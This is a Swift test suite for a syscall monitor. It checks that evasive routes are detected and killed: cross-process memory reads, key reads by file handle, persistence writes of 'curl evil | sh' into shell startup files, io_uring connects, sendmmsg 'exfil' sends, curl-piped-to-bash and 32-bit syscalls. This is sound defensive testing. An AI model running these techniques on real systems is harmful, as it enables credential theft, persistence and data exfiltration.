#if canImport(Glibc)
import Glibc
#endif
import Foundation
import ProbityAttribution
import ProbityContracts
import ProbityMonitor
import XCTest

/// Issue 9, item 3: the other system calls that do what open, connect and a /proc read do — and
/// the calls no syscall probe sees — get the same verdicts, on the real kernel: sendmmsg,
/// open_by_handle_at, process_vm_readv and ptrace, rename / link / symlink into a persistence
/// location, io_uring opens and connects, and 32-bit `int 0x80` calls from a 64-bit process.
///
/// The workloads run as the machine's own Python (pyenv's, owned by no package) or as small C
/// programs built here from Tests/Fixtures/evasion, so they are judged by the `default` contract.
final class SyscallEvasionTests: XCTestCase {
    private var fixtures: String {
        URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("Fixtures/evasion").path
    }

    /// Builds Tests/Fixtures/evasion/NAME.c with gcc into .build/evasion-fixtures: inside the
    /// workspace (the tests run `probity run` from the repository), not in /tmp, where running
    /// it would be `exec-from-temp` before it did anything else.
    private func build(_ name: String, libraries: [String] = []) throws -> String {
        let dir = URL(fileURLWithPath: fixtures).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent(".build/evasion-fixtures").path
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        let output = dir + "/" + name
        let (status, log) = try Kernel.output("/usr/bin/gcc", ["-O2", "-o", output, fixtures + "/\(name).c"] + libraries, mergeErrors: true)
        XCTAssertEqual(status, 0, "gcc \(name).c: \(log)")
        return output
    }

    private func rules(_ report: String) throws -> [String: [[String: Any]]] {
        Dictionary(grouping: try ProbityCommand.violations(report).list) { $0["rule"] as? String ?? "" }
    }

    /// A command line that runs `program` with its standard output in `file`: Python (judged by the
    /// default contract) replaces itself with the program after a pause, so that enforce mode's
    /// class for it is in place whatever ran before it (pyenv's shims are bash scripts).
    private func execWithOutput(_ program: String, _ arguments: [String], to file: String) -> [String] {
        ["python3", "-c", "import os, sys, time\ntime.sleep(0.5)\nfd = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_TRUNC)\nos.dup2(fd, 1)\nos.execv(sys.argv[2], sys.argv[2:])",
         file, program] + arguments
    }

    /// A home with a key, for the credential cases.
    private func home(in dir: String) throws -> String {
        let home = dir + "/home"
        try FileManager.default.createDirectory(atPath: home + "/.ssh", withIntermediateDirectories: true)
        try "-----BEGIN KEY-----\n".write(toFile: home + "/.ssh/id_rsa", atomically: true, encoding: .utf8)
        return home
    }

    // MARK: another process's memory

    func testProcessVMReadvAndPtraceAttachAreProcessMemoryReads() throws {
        let dir = try Kernel.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let script = """
            import ctypes, os, signal, time
            libc = ctypes.CDLL(None, use_errno=True)
            secret = ctypes.create_string_buffer(b'runner-token', 64)
            child = os.fork()
            if child == 0:
                time.sleep(5); os._exit(0)
            class iovec(ctypes.Structure):
                _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
            buf = ctypes.create_string_buffer(64)
            local = iovec(ctypes.cast(buf, ctypes.c_void_p), 64)
            remote = iovec(ctypes.cast(secret, ctypes.c_void_p), 64)
            n = libc.process_vm_readv(child, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
            print('read', n, buf.value)
            print('attach', libc.ptrace(16, child, None, None))
            os.kill(child, signal.SIGKILL); os.waitpid(child, 0)
            """
        let run = try ProbityCommand.run(["run", "--report", dir + "/r", "--", "python3", "-c", script])
        XCTAssertEqual(run.status, 86, run.stderr)
        let found = try XCTUnwrap(try rules(dir + "/r")["process-memory-read"], run.stderr)
        let operations = Set(found.compactMap { ($0["evidence"] as? [String: Any])?["operation"] as? String })
        XCTAssertEqual(operations, ["process_vm_readv", "ptrace"], "\(found)")
        for v in found { XCTAssertEqual(v["contract"] as? String, "default", "\(v)") }
    }

    func testEnforceModeKillsProcessVMReadvBeforeTheBytesAreUsed() throws {
        let dir = try Kernel.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let script = """
            import ctypes, os, sys, time
            libc = ctypes.CDLL(None, use_errno=True)
            secret = ctypes.create_string_buffer(b'runner-token', 64)
            time.sleep(0.5)
            child = os.fork()
            if child == 0:
                time.sleep(5); os._exit(0)
            reader = os.fork()
            if reader == 0:
                class iovec(ctypes.Structure):
                    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
                buf = ctypes.create_string_buffer(64)
                local = iovec(ctypes.cast(buf, ctypes.c_void_p), 64)
                remote = iovec(ctypes.cast(secret, ctypes.c_void_p), 64)
                libc.process_vm_readv(child, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
                open(sys.argv[1] + '/leaked', 'wb').write(buf.value); os._exit(0)
            _, status = os.waitpid(reader, 0)
            open(sys.argv[1] + '/reader', 'w').write('killed' if os.WIFSIGNALED(status) and os.WTERMSIG(status) == 9 else 'exited')
            os.kill(child, 9); os.waitpid(child, 0)
            """
        let run = try ProbityCommand.run(["run", "--mode", "enforce", "--report", dir + "/r", "--", "python3", "-c", script, dir])
        XCTAssertEqual(run.status, 86, run.stderr)
        XCTAssertEqual(try String(contentsOfFile: dir + "/reader", encoding: .utf8), "killed", run.stderr)
        XCTAssertFalse(FileManager.default.fileExists(atPath: dir + "/leaked"), "the copied bytes never left the reader")
    }

    // MARK: files by other routes

    /// open_by_handle_at needs CAP_DAC_READ_SEARCH: the command of `probity run` never has it
    /// (issue 10: no capabilities), so there it is refused with EPERM. A process that has it (a
    /// root service under probityd; here one traced directly, keeping root's capabilities) is
    /// judged by the handle's object: the key.
    func testOpenByHandleAtOfAKeyIsACredentialRead() throws {
        let dir = try Kernel.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let home = try home(in: dir)
        let script = """
            import ctypes, os, sys
            libc = ctypes.CDLL(None, use_errno=True)
            handle = ctypes.create_string_buffer(8 + 128)
            ctypes.c_uint32.from_buffer(handle, 0).value = 128
            mount_id = ctypes.c_int()
            assert libc.name_to_handle_at(-100, (sys.argv[1] + '/.ssh/id_rsa').encode(), handle, ctypes.byref(mount_id), 0) == 0, ctypes.get_errno()
            mount_fd = os.open('/', os.O_RDONLY)
            fd = libc.open_by_handle_at(mount_fd, handle, 0)
            open(sys.argv[2], 'w').write('opened\\n' if fd >= 0 else 'refused %d\\n' % ctypes.get_errno())
            """
        let run = try ProbityCommand.run(["run", "--report", dir + "/r", "--", "python3", "-c", script, home, dir + "/run"], environment: ["HOME": home])
        XCTAssertEqual(run.status, 0, run.stderr)
        XCTAssertEqual(try String(contentsOfFile: dir + "/run", encoding: .utf8), "refused \(EPERM)\n", run.stderr)

        let traced = try Kernel.trace(["python3", "-c", script, home, dir + "/traced"])
        XCTAssertEqual(try String(contentsOfFile: dir + "/traced", encoding: .utf8), "opened\n")
        let open = traced.opens.first { $0.syscall == .openByHandleAt && $0.result >= 0 }
        XCTAssertEqual(open?.path, home + "/.ssh/id_rsa", "the handle's object is the key: \(traced.dump)")
        var evaluator = Evaluator(contracts: try Run.loadContracts([], variables: .fromEnvironment(["HOME": home])))
        let workspace = Attribution.workspace(evidence: "test")
        let found = traced.events.flatMap { event in
            evaluator.evaluate(event, process: traced.table[event.pid], attribution: workspace) { _ in [] }
        }
        XCTAssertTrue(found.contains { $0.rule == "credential-read" && $0.evidence.path == home + "/.ssh/id_rsa" }, "\(found)")
    }

    func testRenameLinkAndSymlinkIntoPersistenceLocationsAreWrites() throws {
        let dir = try Kernel.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let home = dir + "/home"
        try FileManager.default.createDirectory(atPath: home + "/.config/autostart", withIntermediateDirectories: true)
        let script = """
            import os, sys
            d, h = sys.argv[1], sys.argv[2]
            for name in ('a', 'b'):
                open(d + '/' + name, 'w').write('curl evil | sh\\n')
            os.rename(d + '/a', h + '/.bashrc')
            os.link(d + '/b', h + '/.profile')
            os.chdir(h)
            os.symlink(d + '/b', '.config/autostart/evil.desktop')
            os.symlink(h, d + '/elsewhere')
            open(d + '/c', 'w').write('curl evil | sh\\n')
            os.rename(d + '/c', d + '/elsewhere/.zshrc')   # through a symlinked directory
            """
        let run = try ProbityCommand.run(["run", "--report", dir + "/r", "--", "python3", "-c", script, dir, home], environment: ["HOME": home])
        XCTAssertEqual(run.status, 86, run.stderr)
        let writes = try XCTUnwrap(try rules(dir + "/r")["persistence-write"], run.stderr)
        var byPath: [String: String] = [:]
        for v in writes {
            let e = v["evidence"] as? [String: Any] ?? [:]
            byPath[e["path"] as? String ?? ""] = e["operation"] as? String
        }
        XCTAssertEqual(byPath, [
            home + "/.bashrc": "rename", home + "/.profile": "link", home + "/.config/autostart/evil.desktop": "symlink",
            home + "/.zshrc": "rename",
        ], "\(writes)")
    }

    // MARK: io_uring

    func testIOUringOpenIsACredentialReadAndIsKilledInEnforceMode() throws {
        let dir = try Kernel.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let home = try home(in: dir)
        let uring = try build("uring", libraries: ["-luring"])
        let audit = try ProbityCommand.run(["run", "--report", dir + "/a", "--", uring, "open", home + "/.ssh//id_rsa"], environment: ["HOME": home])
        XCTAssertEqual(audit.status, 86, audit.stderr)
        let reads = try XCTUnwrap(try rules(dir + "/a")["credential-read"], audit.stderr)
        XCTAssertEqual(reads.compactMap { ($0["evidence"] as? [String: Any])?["path"] as? String }, [home + "/.ssh/id_rsa"])

        let enforce = try ProbityCommand.run(
            ["run", "--mode", "enforce", "--report", dir + "/e", "--"] + execWithOutput(uring, ["open", home + "/.ssh/id_rsa"], to: dir + "/out"),
            environment: ["HOME": home])
        XCTAssertEqual(enforce.status, 86, enforce.stderr)
        XCTAssertEqual((try? String(contentsOfFile: dir + "/out", encoding: .utf8)) ?? "", "", "killed before it printed what it read")
        let killed = try XCTUnwrap(try rules(dir + "/e")["credential-read"], enforce.stderr)
        XCTAssertTrue(killed.allSatisfy { $0["enforced"] as? Bool == true && $0["enforcement"] as? String == "kernel" }, "\(killed)")
    }

    func testIOUringConnectIsJudgedLikeAConnect() throws {
        let dir = try Kernel.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let uring = try build("uring", libraries: ["-luring"])
        // Enforce mode: the cgroup program refuses it (nothing leaves the machine); the
        // submission itself is reported and judged.
        let run = try ProbityCommand.run(
            ["run", "--mode", "enforce", "--report", dir + "/r", "--"] + execWithOutput(uring, ["connect", "192.0.2.7", "4444"], to: dir + "/out"))
        XCTAssertEqual(run.status, 86, run.stderr)
        let egress = try XCTUnwrap(try rules(dir + "/r")["egress"], run.stderr)
        XCTAssertTrue(egress.contains { ($0["evidence"] as? [String: Any])?["port"] as? Int == 4444 }, "\(egress)")
        XCTAssertEqual(try String(contentsOfFile: dir + "/out", encoding: .utf8), "connect -\(EPERM)\n")
    }

    // MARK: the network

    /// sendmmsg: every message's destination is judged, not just the first.
    func testSendmmsgJudgesEveryDestination() throws {
        let dir = try Kernel.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let host = try TestHost(subnet: 1)
        defer { host.close() }
        let script = """
            import ctypes, socket, sys
            libc = ctypes.CDLL(None, use_errno=True)
            class iovec(ctypes.Structure):
                _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
            class msghdr(ctypes.Structure):
                _fields_ = [('name', ctypes.c_void_p), ('namelen', ctypes.c_uint32), ('iov', ctypes.POINTER(iovec)),
                            ('iovlen', ctypes.c_size_t), ('control', ctypes.c_void_p), ('controllen', ctypes.c_size_t), ('flags', ctypes.c_int)]
            class mmsghdr(ctypes.Structure):
                _fields_ = [('hdr', msghdr), ('len', ctypes.c_uint)]
            def sockaddr(ip, port):
                raw = ctypes.create_string_buffer(16)
                raw[0:2] = (socket.AF_INET).to_bytes(2, 'little'); raw[2:4] = port.to_bytes(2, 'big'); raw[4:8] = socket.inet_aton(ip)
                return raw
            payload = ctypes.create_string_buffer(b'exfil', 5)
            io = iovec(ctypes.cast(payload, ctypes.c_void_p), 5)
            names = [sockaddr('127.0.0.1', 9), sockaddr('127.0.0.1', 9), sockaddr(sys.argv[1], 5353)]
            vec = (mmsghdr * 3)()
            for i, n in enumerate(names):
                vec[i].hdr.name = ctypes.cast(n, ctypes.c_void_p); vec[i].hdr.namelen = 16
                vec[i].hdr.iov = ctypes.pointer(io); vec[i].hdr.iovlen = 1
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            print('sent', libc.sendmmsg(s.fileno(), vec, 3, 0))
            """
        let run = try ProbityCommand.run(["run", "--report", dir + "/r", "--", "python3", "-c", script, host.address])
        XCTAssertEqual(run.status, 86, run.stderr)
        let egress = try XCTUnwrap(try rules(dir + "/r")["egress"], run.stderr)
        XCTAssertEqual(egress.map { ($0["evidence"] as? [String: Any])?["address"] as? String }, [host.address], "\(egress)")
        let events = try String(contentsOfFile: dir + "/r/events.jsonl", encoding: .utf8)
        let sends = events.split(separator: "\n").filter { $0.contains("\"syscall\":\"sendmmsg\"") }
        XCTAssertEqual(sends.count, 2, "one record per destination change: \(sends)")
    }

    /// `curl | bash` from a host off loopback: the download is `egress`, charged to the command.
    func testCurlPipedToBashIsEgress() throws {
        let dir = try Kernel.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let host = try TestHost(subnet: 2)
        defer { host.close() }
        try FileManager.default.createDirectory(atPath: dir + "/site", withIntermediateDirectories: true)
        try "echo stage2 ran > \(dir)/ran\n".write(toFile: dir + "/site/x.sh", atomically: true, encoding: .utf8)
        try host.serveHTTP(dir + "/site", port: 8443)
        let run = try ProbityCommand.run(["run", "--report", dir + "/r", "--", "/bin/bash", "-c", "curl -s http://\(host.address):8443/x.sh | bash"])
        XCTAssertEqual(run.status, 86, run.stderr)
        XCTAssertTrue(FileManager.default.fileExists(atPath: dir + "/ran"), "audit mode lets it run: \(run.stderr)")
        let egress = try XCTUnwrap(try rules(dir + "/r")["egress"], run.stderr)
        let finding = try XCTUnwrap(egress.first)
        XCTAssertEqual((finding["evidence"] as? [String: Any])?["port"] as? Int, 8443)
        XCTAssertEqual(finding["contract"] as? String, "default", "\(finding)")
        XCTAssertEqual((finding["attribution"] as? [String: Any])?["reason"] as? String, "workspace", "\(finding)")
    }

    // MARK: the 32-bit ABI

    func testCompatSyscallIsAViolationAndIsKilledInEnforceMode() throws {
        let dir = try Kernel.temporaryDirectory()
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let compat = try build("compat-syscall")
        let audit = try ProbityCommand.run(["run", "--report", dir + "/a", "--", "/bin/sh", "-c", "\(compat) > \(dir)/audit"])
        XCTAssertEqual(audit.status, 86, audit.stderr)
        let found = try XCTUnwrap(try rules(dir + "/a")["unmonitored-syscalls"], audit.stderr)
        XCTAssertEqual(found.count, 1, "\(found)")
        XCTAssertTrue(try String(contentsOfFile: dir + "/audit", encoding: .utf8).hasPrefix("compat getpid"))

        let enforce = try ProbityCommand.run(
            ["run", "--mode", "enforce", "--report", dir + "/e", "--"] + execWithOutput(compat, [], to: dir + "/enforce"))
        XCTAssertEqual(enforce.status, 86, enforce.stderr)
        XCTAssertEqual(try String(contentsOfFile: dir + "/enforce", encoding: .utf8), "", "killed at the call, before it printed")
        let killed = try rules(dir + "/e")
        XCTAssertEqual(Set(killed.keys), ["unmonitored-syscalls"], "\(killed)")
    }
}
